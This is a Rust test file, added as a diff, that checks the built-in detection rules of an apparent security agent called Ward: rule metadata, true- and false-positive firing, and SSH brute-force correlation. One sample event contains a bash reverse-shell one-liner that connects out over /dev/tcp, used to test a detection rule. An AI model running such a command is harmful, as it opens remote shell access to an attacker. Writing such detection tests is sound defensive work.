@@ -1,0 +1,174 @@
+//! Every built-in rule loads, carries Ward's metadata, fires on its true-positive
+//! events and stays silent on its false-positive events (agent/rules/tests/).
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::collections::BTreeSet;
+use std::path::Path;
+
+use serde_json::Value;
+use ward_agent::detect::rulestest::event_from_partial;
+use ward_agent::detect::{BUILTIN_RULES, Detector, builtin_rule_files};
+use ward_agent::event::Event;
+
+fn detector() -> Detector {
+    let (det, errors) = Detector::load(&builtin_rule_files());
+    assert!(errors.is_empty(), "{errors:#?}");
+    det
+}
+
+/// The one helper: `event` fires exactly the rules in `expected` (ids); a mismatch
+/// is described in `failures` so one run lists every broken case.
+fn check(det: &Detector, what: &str, event: &Event, expected: &BTreeSet<String>, failures: &mut Vec<String>) {
+    let fired: BTreeSet<String> = det.evaluate(event).into_iter().map(|d| d.rule.id).collect();
+    if &fired != expected {
+        failures.push(format!("{what}: fired {fired:?}, expected {expected:?}\n  {event:?}"));
+    }
+}
+
+/// For correlation rules: feeds `events` in order, one a second, through a fresh
+/// correlator; `rule` must fire on some event (true positive) or on none.
+fn check_sequence(det: &Detector, stem: &str, rule: &str, events: &[Value], fire: bool, failures: &mut Vec<String>) {
+    let mut corr = det.correlator().expect("the pack has correlation rules");
+    let mut fired = false;
+    for (i, v) in events.iter().enumerate() {
+        let e = event(v);
+        let now = e.observed_at_ms + i as u64 * 1000;
+        fired |= corr.process(det, &e, now).iter().any(|d| d.rule.id == rule);
+    }
+    if fired != fire {
+        failures.push(format!(
+            "{stem}: correlation fired = {fired} on its {} sequence",
+            if fire { "true-positive" } else { "false-positive" }
+        ));
+    }
+}
+
+fn event(v: &Value) -> Event {
+    let Value::Object(m) = v.clone() else {
+        panic!("event is not a map: {v}")
+    };
+    event_from_partial(1_700_000_000_000, m).unwrap()
+}
+
+#[test]
+fn builtin_pack_is_big_enough_and_well_formed() {
+    let det = detector();
+    assert!(BUILTIN_RULES.len() >= 25);
+    assert_eq!(det.stats().loaded, BUILTIN_RULES.len());
+    assert_eq!(det.stats().inactive, 0);
+    let mut tactics = BTreeSet::new();
+    for r in det.rules() {
+        assert_eq!(r.author, "Ward", "{}", r.title);
+        assert_eq!(r.id.len(), 36, "{}: id must be a UUID", r.title);
+        assert!(!r.techniques.is_empty(), "{}: no technique", r.title);
+        assert!(!r.tactics.is_empty(), "{}: no tactic", r.title);
+        tactics.extend(r.tactics.iter().cloned());
+    }
+    // execution, persistence, privilege escalation, defense evasion, credential
+    // access, discovery, command and control, impact
+    for t in [
+        "TA0002", "TA0003", "TA0004", "TA0005", "TA0006", "TA0007", "TA0011", "TA0040",
+    ] {
+        assert!(tactics.contains(t), "no built-in rule for {t}");
+    }
+}
+
+#[test]
+fn every_builtin_rule_fires_on_its_true_positives_and_not_on_its_false_positives() {
+    let det = detector();
+    let mut failures = Vec::new();
+    let tests = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/tests");
+    for (name, yaml) in BUILTIN_RULES {
+        let stem = name.trim_end_matches(".yml");
+        let path = tests.join(format!("{stem}.yml"));
+        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{name} has no tests ({e})"));
+        let doc: Value = serde_yaml::from_str(&text).unwrap();
+        let id = doc["rule"].as_str().unwrap().to_string();
+        assert!(
+            yaml.contains(&format!("id: {id}")),
+            "{stem}: test file names another rule"
+        );
+        let also: BTreeSet<String> = doc["also"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| v.as_str().unwrap().to_string())
+            .collect();
+        let tps = doc["true_positives"].as_array().unwrap();
+        let fps = doc["false_positives"].as_array().unwrap();
+        assert!(
+            !tps.is_empty() && !fps.is_empty(),
+            "{stem}: needs a true and a false positive"
+        );
+        if doc["correlation"].as_bool() == Some(true) {
+            check_sequence(&det, stem, &id, tps, true, &mut failures);
+            check_sequence(&det, stem, &id, fps, false, &mut failures);
+            continue;
+        }
+        for tp in tps {
+            let e = event(tp);
+            let fired: BTreeSet<String> = det.evaluate(&e).into_iter().map(|d| d.rule.id).collect();
+            let mut expected: BTreeSet<String> = also.intersection(&fired).cloned().collect();
+            expected.insert(id.clone());
+            check(&det, &format!("{stem} true positive"), &e, &expected, &mut failures);
+        }
+        for fp in fps {
+            check(
+                &det,
+                &format!("{stem} false positive"),
+                &event(fp),
+                &BTreeSet::new(),
+                &mut failures,
+            );
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn detections_carry_entities_and_matched_fields() {
+    let det = detector();
+    let e = event(&serde_json::json!({
+        "kind": "process", "pid": 7, "ppid": 1, "user": "alice", "uid": 1000, "exe": "/usr/bin/bash",
+        "cmdline": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
+    }));
+    let d = det.evaluate(&e);
+    assert_eq!(d.len(), 1);
+    let d = &d[0];
+    assert_eq!(d.rule.techniques, vec!["T1059.004", "T1095"]);
+    assert_eq!(d.rule.tactics, vec!["TA0002", "TA0011"]);
+    assert_eq!(d.rule.severity, ward_protocol::Severity::High);
+    assert_eq!(d.observed_at_ms, 1_700_000_000_000);
+    let kinds: Vec<&str> = d.entities.iter().map(|e| e.kind()).collect();
+    assert_eq!(kinds, vec!["user", "process", "ip"]);
+    assert_eq!(d.matched[0].name, "CommandLine");
+}
+
+#[test]
+fn brute_force_correlation_counts_per_source_and_window() {
+    let det = detector();
+    assert_eq!(det.stats().correlations, 1);
+    let mut corr = det.correlator().unwrap();
+    let fail = |ip: &str| {
+        event(&serde_json::json!({"kind": "auth", "service": "sshd", "source_ip": ip,
+            "message": format!("Failed password for root from {ip} port 1 ssh2")}))
+    };
+    let brute = |d: &ward_agent::detect::Detection| d.rule.title.starts_with("SSH Brute Force: Many");
+    // nine failures, then a ten-minute pause: the window has moved on
+    for i in 0..9 {
+        assert!(!corr.process(&det, &fail("203.0.113.7"), i * 1000).iter().any(brute));
+    }
+    assert!(!corr.process(&det, &fail("203.0.113.7"), 600_000).iter().any(brute));
+    // ten within the window from one source fire once, with the source as entity
+    let mut hits = Vec::new();
+    for i in 0..10 {
+        hits.extend(
+            corr.process(&det, &fail("198.51.100.1"), 700_000 + i * 1000)
+                .into_iter()
+                .filter(brute),
+        );
+    }
+    assert_eq!(hits.len(), 1);
+    assert!(hits[0].entities.iter().any(|e| e.kind() == "ip"));
+    assert_eq!(hits[0].rule.severity, ward_protocol::Severity::High);
+}
